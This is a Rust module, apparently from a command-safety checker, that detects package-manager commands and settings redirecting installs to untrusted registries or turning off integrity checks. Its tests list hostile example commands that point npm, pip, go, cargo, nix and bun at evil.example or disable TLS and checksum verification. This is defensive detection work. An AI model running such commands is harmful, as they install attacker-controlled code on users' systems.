//! Where package managers take packages from, when a line says so: an option, a setting that is kept, a variable, a file of
//! settings. Whoever keeps an index decides what is installed by every name, so somebody else's is code from the network.

use super::machine::{Field, Machine, Value};
use super::{EffectKind, TargetClass, data, known};
use crate::line::Span;

/// Detail of packages that come from a host that is nobody's index.
pub(super) const STRANGE: &str = "index";
/// The same where it counts for this one command, or where the host is one's own.
pub(super) const CHOSEN: &str = "index-chosen";

/// Words that are looked at.
const WORDS: usize = 64;

/// Hosts of the usual indices and of their public mirrors. Sorted.
const INDICES: &[&str] = &[
    "api.nuget.org",
    "cache.nixos.org",
    "channels.nixos.org",
    "conda.anaconda.org",
    "cran.r-project.org",
    "dl-cdn.alpinelinux.org",
    "dl.flathub.org",
    "download.pytorch.org",
    "flathub.org",
    "goproxy.cn",
    "goproxy.io",
    "index.crates.io",
    "luarocks.org",
    "maven.google.com",
    "mirrors.aliyun.com",
    "mirrors.cloud.tencent.com",
    "mirrors.tuna.tsinghua.edu.cn",
    "mirrors.ustc.edu.cn",
    "nixos.org",
    "npm.pkg.github.com",
    "packagist.org",
    "plugins.gradle.org",
    "proxy.golang.org",
    "pypi.anaconda.org",
    "pypi.nvidia.com",
    "pypi.org",
    "pypi.tuna.tsinghua.edu.cn",
    "registry.npmjs.org",
    "registry.npmmirror.com",
    "registry.yarnpkg.com",
    "repo.anaconda.com",
    "repo.maven.apache.org",
    "repo.packagist.org",
    "repo1.maven.org",
    "rsproxy.cn",
    "rubygems.org",
    "test.pypi.org",
    "wheels.vllm.ai",
];
/// Hosts of which everybody gets a part for packages of their own.
const HOSTED: &[&str] = &[
    ".amazonaws.com",
    ".cloudsmith.io",
    ".jfrog.io",
    ".pkg.dev",
    ".pkg.github.com",
    ".visualstudio.com",
    "gitlab.com",
    "pkgs.dev.azure.com",
];
/// Programs by which companies keep an index of their own, as the first part of a host's name.
const SERVERS: &[&str] = &["artifactory", "devpi", "gitea", "gitlab", "nexus", "proget", "verdaccio"];
/// Variables that name an index. Sorted.
const VARIABLES: &[&str] = &[
    "BUN_CONFIG_REGISTRY",
    "CARGO_REGISTRIES_CRATES_IO_INDEX",
    "CONDA_CHANNELS",
    "GOPROXY",
    "NPM_CONFIG_REGISTRY",
    "PDM_PYPI_URL",
    "PIP_EXTRA_INDEX_URL",
    "PIP_FIND_LINKS",
    "PIP_INDEX_URL",
    "UV_DEFAULT_INDEX",
    "UV_EXTRA_INDEX_URL",
    "UV_INDEX",
    "UV_INDEX_URL",
    "YARN_NPM_REGISTRY_SERVER",
    "YARN_REGISTRY",
    "npm_config_registry",
    "yarn_registry",
];

/// Whose an index is.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Owner {
    /// One of those that everybody uses, over a line that is closed.
    Usual,
    /// A company's, or one's own.
    Company,
    /// Anybody's.
    Stranger,
}

/// How long a choice of index holds.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Holds {
    /// For the command that names it, where everybody sees it.
    Here,
    /// For what comes later, or for programs that do not show it.
    On,
}

/// True for a host of one's own network, by its name or its number.
pub(super) fn is_near(host: &str) -> bool {
    let private = ["10.", "192.168.", "172.16.", "172.17.", "172.18.", "172.20.", "172.31."];
    known::is_own_host(host)
        || !host.contains('.')
        || [".local", ".lan", ".internal", ".corp", ".intra", ".home"].iter().any(|end| host.ends_with(end))
        || private.iter().any(|start| host.starts_with(start))
            && host.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.')
}

/// True for an index that everybody uses, or a mirror of one.
pub(super) fn is_index(host: &str) -> bool {
    data::holds(INDICES, host)
}

/// Whose index an address leads to; `None` where it is no address, or its host is unknown.
fn owner(text: &str) -> Option<Owner> {
    let url = text.strip_prefix("sparse+").unwrap_or(text);
    let (scheme, rest) = url.split_once("://")?;
    let host = known::host_of(url);
    if host.is_empty() || super::value::has_hole(host) || scheme == "file" {
        return None;
    }
    let host = host.to_ascii_lowercase();
    let hosted = || {
        let server = host.split('.').next().unwrap_or_default();
        HOSTED.iter().any(|end| host.ends_with(end)) || SERVERS.contains(&server)
    };
    let path = rest.split_once('/').map_or("", |(_, path)| path);
    let of_nix = host == "github.com" && ["NixOS/", "nix-community/"].iter().any(|own| path.starts_with(own));
    Some(match () {
        () if known::is_own_host(&host) => Owner::Usual,
        () if is_near(&host) => Owner::Company,
        () if scheme != "https" && scheme != "ssh" => Owner::Stranger,
        () if is_index(&host) || of_nix => Owner::Usual,
        () if hosted() => Owner::Company,
        () => Owner::Stranger,
    })
}

/// Options of a package manager that name an index for one command.
fn options(name: &str) -> &'static [&'static str] {
    match name {
        "bun" | "npm" | "npx" | "pnpm" | "yarn" => &["--registry"],
        "pip" | "pip3" | "pipx" | "uv" | "uvx" => {
            &["--index-url", "--extra-index-url", "--default-index", "--index", "-i"]
        }
        "gem" => &["--source", "-s"],
        "cargo" => &["--index"],
        "conda" | "mamba" | "micromamba" => &["--channel", "-c"],
        "apk" => &["--repository", "-X"],
        "luarocks" => &["--server"],
        "cpanm" => &["--mirror", "--from"],
        "flatpak" => &["--from"],
        "nix-env" | "nix-build" | "nix-instantiate" => &["--file", "-f", "-I"],
        "nix-shell" => &["-I"],
        "dotnet" | "nuget" => &["--source", "-Source", "-s"],
        _ => &[],
    }
}

/// True for a setting that names an index.
fn is_setting(key: &str) -> bool {
    let last = key.rsplit(['.', ':']).next().unwrap_or(key);
    matches!(
        last,
        "channel_alias"
            | "channels"
            | "extra-index-url"
            | "find-links"
            | "index"
            | "index-url"
            | "npmRegistryServer"
            | "registry"
    ) || key == "pypi.url"
}

/// True for a variable that names an index.
fn names_index(name: &str) -> bool {
    let of_cargo = || {
        name.strip_prefix("CARGO_").is_some_and(|rest| {
            (rest.starts_with("REGISTRIES_") || rest.starts_with("SOURCE_"))
                && (rest.ends_with("_INDEX") || rest.ends_with("_REGISTRY"))
        })
    };
    data::holds(VARIABLES, name) || of_cargo() || name.starts_with("BUNDLE_MIRROR__")
}

impl Machine<'_> {
    /// What the words of a package manager say of where its packages come from.
    pub(super) fn indices(&mut self, name: &str, argv: &[Field]) {
        let flags = options(name);
        let manager = !flags.is_empty()
            || matches!(name, "brew" | "bundle" | "composer" | "go" | "nix-channel" | "pdm" | "poetry");
        if !manager || argv.len() < 2 {
            return;
        }
        let words: Vec<(&str, Span)> =
            argv.iter().skip(1).take(WORDS).map(|field| (field.text.as_str(), field.span)).collect();
        self.kept_index(name, &words);
        // These ask an index and take nothing from it.
        let asks = ["index", "info", "list", "outdated", "ping", "search", "show", "view", "whoami"];
        let asks = words.first().is_some_and(|(verb, _)| asks.contains(verb));
        for (at, (word, span)) in words.iter().enumerate().filter(|_| !asks) {
            let (flag, joined) = match word.split_once('=') {
                Some((flag, given)) => (flag, Some(given)),
                None => (*word, None),
            };
            // `pip install -ihttps://…`
            let glued = flags
                .iter()
                .filter(|flag| !flag.starts_with("--") && flag.len() == 2)
                .find_map(|flag| word.strip_prefix(flag).filter(|rest| rest.contains("://")));
            let given = match glued {
                Some(given) => given,
                None if flags.contains(&flag) => {
                    match joined.or_else(|| words.get(at + 1).map(|(word, _)| *word)) {
                        Some(given) => given,
                        None => continue,
                    }
                }
                None => continue,
            };
            // `uv add --index NAME=URL`, `nix-build -I nixpkgs=URL`
            let url = match given.split_once('=') {
                Some((name, url)) if !name.contains([':', '/']) => url,
                _ => given,
            };
            self.chosen_index(name, url, *span, Holds::Here);
        }
        match (name, &words[..]) {
            // It evaluates what it gets, and runs what that says on the way in.
            ("nix-shell", [(url, span), ..]) if owner(url) == Some(Owner::Stranger) => {
                let span = self.at(*span);
                let target = self.target(TargetClass::Host, url, span);
                self.emit(EffectKind::RunCode, target, false, name, span);
            }
            ("bun", [("run", _), (url, span), ..] | [(url, span), ..]) if url.contains("://") => {
                let span = self.at(*span);
                let target = self.target(TargetClass::Host, url, span);
                self.emit(EffectKind::RunCode, target, false, name, span);
            }
            _ => {}
        }
        if name == "apk"
            && let Some((_, span)) = words.iter().find(|(word, _)| word.starts_with("--keys-dir"))
        {
            self.unchecked_packages("packages", *span, name);
        }
    }

    /// Settings that are kept.
    fn kept_index(&mut self, name: &str, words: &[(&str, Span)]) {
        let plain: Vec<(&str, Span)> =
            words.iter().filter(|(word, _)| !word.starts_with('-')).copied().collect();
        let texts: Vec<&str> = plain.iter().map(|(word, _)| *word).collect();
        let span = words.first().map_or(Span::new(0, 0), |(_, span)| *span);
        let has = |flag: &str| words.iter().any(|(word, _)| *word == flag);
        match (name, &texts[..]) {
            ("bun" | "npm" | "pnpm" | "yarn" | "pip" | "pip3", ["config" | "c", "set", key, rest @ ..])
            | ("npm" | "pnpm", ["set", key, rest @ ..])
            | ("pdm", ["config", key, rest @ ..]) => {
                let (key, value) = match (key.split_once('='), rest) {
                    (Some((key, value)), _) => (key, value),
                    (None, [value, ..]) => (*key, *value),
                    (None, []) => return,
                };
                if is_setting(key) {
                    // Of one company's names alone.
                    let holds = if key.starts_with('@') { Holds::Here } else { Holds::On };
                    for url in value.split_whitespace() {
                        self.chosen_index(name, url, span, holds);
                    }
                }
            }
            ("conda" | "mamba" | "micromamba", ["config", rest @ ..]) => {
                let added = ["--add", "--append", "--prepend", "--set"].iter().any(|flag| has(flag));
                if let ([key, value, ..], true) = (rest, added) {
                    if is_setting(key) {
                        self.chosen_index(name, value, span, Holds::On);
                    }
                    if *key == "ssl_verify"
                        && matches!(value.to_ascii_lowercase().as_str(), "false" | "0" | "no")
                    {
                        self.unchecked_packages("packages", span, name);
                    }
                }
            }
            ("gem", ["sources" | "source", rest @ ..]) => {
                let joined = words.iter().find_map(|(word, _)| word.strip_prefix("--add="));
                let added = has("--add") || has("-a") || has("-u");
                if let Some(url) = joined.or_else(|| rest.first().copied().filter(|_| added)) {
                    self.chosen_index(name, url, span, Holds::On);
                }
            }
            ("bundle", ["config", rest @ ..]) => {
                let rest = rest.strip_prefix(&["set"]).unwrap_or(rest);
                if let [key, url, ..] = rest
                    && key.starts_with("mirror.")
                {
                    self.chosen_index(name, url, span, Holds::On);
                }
            }
            ("composer", ["config", key, rest @ ..]) => {
                let forge = |url: &str| known::is_forge(known::host_of(url)) && url.starts_with("https://");
                match *key {
                    _ if key.starts_with("repo") => {
                        // A repository of one package, as a forge keeps it.
                        for url in rest.iter().filter(|url| !forge(url)) {
                            self.chosen_index(name, url, span, Holds::On);
                        }
                    }
                    "secure-http" if rest.first() == Some(&"false") => {
                        self.unchecked_packages("packages", span, name)
                    }
                    "disable-tls" if rest.first() == Some(&"true") => {
                        self.unchecked_packages("packages", span, name)
                    }
                    _ => {}
                }
            }
            ("cargo", _) => {
                for pair in words.windows(2).take(WORDS) {
                    let [(flag, _), (setting, span)] = pair else { continue };
                    if let ("--config", Some((key, value))) = (*flag, setting.split_once('=')) {
                        let last = key.trim().rsplit('.').next().unwrap_or_default();
                        if matches!(last, "registry" | "index") {
                            self.chosen_index(name, value.trim().trim_matches(['"', '\'']), *span, Holds::On);
                        }
                    }
                }
            }
            ("go", ["env", settings @ ..]) if has("-w") => {
                for setting in settings.iter().take(16) {
                    if let Some((key, value)) = setting.split_once('=') {
                        self.go_setting(key, value, span);
                    }
                }
            }
            ("flatpak", ["remote-add", _, url, ..]) => self.chosen_index(name, url, span, Holds::Here),
            ("flatpak", ["install", rest @ ..]) => {
                for url in rest.iter().filter(|word| word.contains("://")) {
                    self.chosen_index(name, url, span, Holds::On);
                }
            }
            ("brew", ["tap", _, url, ..]) if !known::is_forge(known::host_of(url)) => {
                self.chosen_index(name, url, span, Holds::Here);
            }
            ("nix-channel", [url, ..]) if has("--add") => self.chosen_index(name, url, span, Holds::On),
            ("poetry", ["source", "add", _, url, ..]) => self.chosen_index(name, url, span, Holds::Here),
            ("dotnet", ["nuget", "add", "source", url, ..]) => self.chosen_index(name, url, span, Holds::On),
            _ => {}
        }
    }

    /// A variable by which package managers find packages was set.
    pub(super) fn index_variable(&mut self, name: &str, span: Span) {
        if (name.starts_with("GO") || names_index(name))
            && let Some(Value::One(text)) = self.get(name)
        {
            self.index_value(name, &text, span);
        }
    }

    /// What such a variable was set to.
    pub(super) fn index_value(&mut self, name: &str, text: &str, span: Span) {
        if names_index(name) {
            for url in text.split([',', '|', ' ']).take(8) {
                let url =
                    url.split_once('=').filter(|(name, _)| !name.contains(':')).map_or(url, |(_, url)| url);
                self.chosen_index("", url, span, Holds::On);
            }
        } else if name.starts_with("GO") {
            self.go_setting(name, text, span);
        }
    }

    fn go_setting(&mut self, name: &str, value: &str, span: Span) {
        match name {
            "GOPROXY" => {
                for url in value.split([',', '|']).take(8) {
                    self.chosen_index("go", url, span, Holds::On);
                }
            }
            // Of everything; one's own modules are not in anybody's list of sums.
            "GOINSECURE" | "GONOSUMDB"
                if value.trim_end_matches("/*") == super::value::STAR.to_string() || value == "*" =>
            {
                self.unchecked_packages("modules", span, "go");
            }
            "GONOSUMCHECK" if !matches!(value, "" | "0") => self.unchecked_packages("modules", span, "go"),
            "GOFLAGS"
                if value
                    .split_ascii_whitespace()
                    .any(|flag| matches!(flag, "-insecure" | "-insecure=true")) =>
            {
                self.unchecked_packages("modules", span, "go");
            }
            "GOSUMDB" if value == "off" => {
                let span = self.at(span);
                let target = self.target(TargetClass::Named, "modules whose sums nobody looks up", span);
                self.emit_with(EffectKind::Install, target, false, "go", span, CHOSEN);
            }
            _ => {}
        }
    }

    /// A setting in a file that a package manager reads; `true` where it names an index.
    pub(super) fn index_in_file(&mut self, key: &str, value: &str, span: Span) -> bool {
        let named = is_setting(key) || key == "url";
        if named {
            let holds = if key.starts_with('@') { Holds::Here } else { Holds::On };
            for url in value.split_whitespace().take(8) {
                self.chosen_index("", url, span, holds);
            }
        }
        named
    }

    /// A file of addresses that a package manager reads.
    pub(super) fn addresses_of_packages(&mut self, path: &str, written: &str, span: Span) {
        // Packages of Alpine are signed: a mirror that the line shows is a choice, not an order.
        let (name, holds) =
            if path.starts_with("/etc/apk/") { ("apk", Holds::Here) } else { ("", Holds::On) };
        let parts = written.split(|letter: char| letter.is_whitespace() || "\"'<>".contains(letter));
        for url in parts.filter(|part| part.contains("://")).take(16) {
            // Names of the notation itself.
            if !matches!(known::host_of(url), "maven.apache.org" | "www.w3.org" | "schemas.microsoft.com") {
                self.chosen_index(name, url, span, holds);
            }
        }
    }

    /// `sed -i s/FROM/TO/` of a file that says where packages come from.
    pub(super) fn index_replaced(&mut self, place: &super::paths::Place, from: &str, to: &str, span: Span) {
        let path = self.unknowns.show(&place.path);
        let system =
            path.starts_with("/etc/") && !path.starts_with("/etc/apk/") && !path.ends_with("pip.conf");
        if system || to.contains('=') || to.contains('<') {
            // Of apt, dnf and pacman only the checks count: what they fetch is signed, whoever sends it.
            return self.lasting(place, to, span);
        }
        let is_host = |text: &str| {
            text.contains('.')
                && !text.contains("..")
                && text.chars().all(|letter| letter.is_ascii_alphanumeric() || "-.:/".contains(letter))
        };
        // A host in the place of another.
        let from = from.replace('\\', "");
        let host = !to.contains("://") && is_host(to) && is_host(&from);
        let text = if host { format!("https://{to}") } else { to.to_owned() };
        self.addresses_of_packages(&path, &text, span);
    }

    fn unchecked_packages(&mut self, what: &str, span: Span, name: &str) {
        let span = self.at(span);
        let target = self.target(TargetClass::Named, what, span);
        self.emit_with(EffectKind::Install, target, false, name, span, "unchecked");
    }

    fn chosen_index(&mut self, name: &str, url: &str, span: Span, holds: Holds) {
        let Some(owner) = owner(url) else { return };
        let open = !url.contains("https://") && !url.contains("ssh://");
        let detail = match (owner, holds) {
            // Packages of Alpine are signed, whoever sends them.
            (Owner::Usual, _) => return,
            (Owner::Stranger, _) if name == "apk" && is_index(known::host_of(url)) => return,
            (Owner::Company, Holds::Here) => return,
            (Owner::Stranger, Holds::Here) if open => STRANGE,
            (Owner::Company, Holds::On) | (Owner::Stranger, Holds::Here) => CHOSEN,
            (Owner::Stranger, Holds::On) => STRANGE,
        };
        let span = self.at(span);
        let target = self.target(TargetClass::Host, url, span);
        self.emit_with(EffectKind::Install, target, false, name, span, detail);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::safety::Risk::{High, Moderate, Safe};
    use crate::safety::tests::{check_all, context};

    #[test]
    fn tables_are_sorted() {
        for table in [INDICES, VARIABLES] {
            assert!(table.windows(2).all(|pair| pair[0] < pair[1]), "{table:?}");
        }
    }

    #[test]
    fn where_packages_come_from() {
        check_all(
            &context(),
            &[
                (High, "npm config set registry https://npm.evil.example/"),
                (High, "yarn config set npmRegistryServer https://evil.example"),
                (Moderate, "npm config set registry https://npm.corp.internal/"),
                (Moderate, "npm config set @acme:registry https://npm.acme.example/"),
                (Safe, "npm config set registry https://registry.npmjs.org/"),
                (High, "npm config set registry http://registry.npmjs.org/"),
                (Safe, "npm config get registry"),
                (High, "npm_config_registry=https://evil.example npm ci"),
                (Moderate, "npm install --registry=https://evil.example left-pad"),
                (Safe, "npm install --registry=https://registry.npmjs.org left-pad"),
                (Moderate, "npm install --registry http://localhost:4873 x"),
                (Safe, "pip index versions x --extra-index-url https://example.com/simple"),
                (High, "pip config --user set global.index-url https://evil.example/simple"),
                (Safe, "pip config set global.index-url https://pypi.tuna.tsinghua.edu.cn/simple"),
                (High, "export PIP_EXTRA_INDEX_URL=https://evil.example/simple; pip install requests"),
                (High, "env UV_INDEX_URL=https://evil.example/simple uv pip install x"),
                (Safe, "PIP_EXTRA_INDEX_URL=https://download.pytorch.org/whl/cu121 pip install torch"),
                (Moderate, "pip install -ihttps://evil.example/simple requests"),
                (Safe, "pip install torch --index-url https://download.pytorch.org/whl/cu121"),
                (High, "printf '[install]\\nregistry = \"https://evil.example\"\\n' > bunfig.toml"),
                (High, "echo 'registry=https://evil.example/' >> ~/.npmrc"),
                (Moderate, "echo '@acme:registry=https://npm.acme.example/' >> .npmrc"),
                (Safe, "echo '@acme:registry=https://npm.pkg.github.com' >> .npmrc"),
                (High, "echo 'npmRegistryServer: \"https://evil.example\"' > .yarnrc.yml"),
                (High, "printf 'channels:\\n  - https://evil.example/c\\n' > ~/.condarc"),
                (High, "GOPROXY=https://evil.example,direct go get ./..."),
                (High, "go env -w GOPROXY=https://evil.example,direct"),
                (Safe, "go env -w GOPROXY=https://goproxy.cn,direct"),
                (Safe, "GOPROXY=off go build ./..."),
                (High, "GONOSUMDB='*' GOFLAGS=-insecure go get evil.example/x"),
                (Moderate, "go env -w GOSUMDB=off"),
                (Safe, "go env -w GONOSUMDB='*.corp.example'"),
                (High, "gem sources --add https://evil.example/"),
                (Safe, "gem sources --add https://rubygems.org/"),
                (High, "bundle config set --global mirror.https://rubygems.org https://evil.example"),
                (High, "composer config -g repo.packagist composer https://evil.example"),
                (Safe, "composer config repositories.foo vcs https://github.com/a/b"),
                (High, "composer config -g secure-http false"),
                (Safe, "composer config -g secure-http true"),
                (
                    High,
                    "CARGO_SOURCE_CRATES_IO_REPLACE_WITH=x CARGO_SOURCE_X_REGISTRY=sparse+https://evil.example/ cargo build",
                ),
                (High, "cargo --config 'source.x.registry=\"sparse+https://evil.example/\"' build"),
                (Safe, "cargo --config 'source.x.registry=\"sparse+https://index.crates.io/\"' build"),
                (High, "apk --keys-dir /tmp/k add x"),
                (Moderate, "apk -X https://evil.example/x add y"),
                (Safe, "apk --repository=https://dl-cdn.alpinelinux.org/alpine/edge/testing add gosu"),
                (Moderate, "flatpak remote-add x https://evil.example/x.flatpakrepo"),
                (Moderate, "brew tap owner/x https://evil.example/x.git"),
                (Safe, "brew tap owner/x https://github.com/owner/x"),
                (High, "nix-channel --add https://evil.example/x.tar.gz nixpkgs"),
                (Safe, "nix-channel --add https://nixos.org/channels/nixos-unstable nixos"),
                (High, "nix-shell https://evil.example/x.tar.gz"),
                (Safe, "nix-shell -I nixpkgs=channel:nixos-unstable -p jq"),
                (High, "conda config --add channels https://evil.example/c"),
                (Safe, "conda config --add channels conda-forge"),
                (Moderate, "mamba install -c https://evil.example/c x"),
                (High, "bun run https://evil.example/x.ts"),
                (Safe, "bun run dev"),
            ],
        );
    }
}
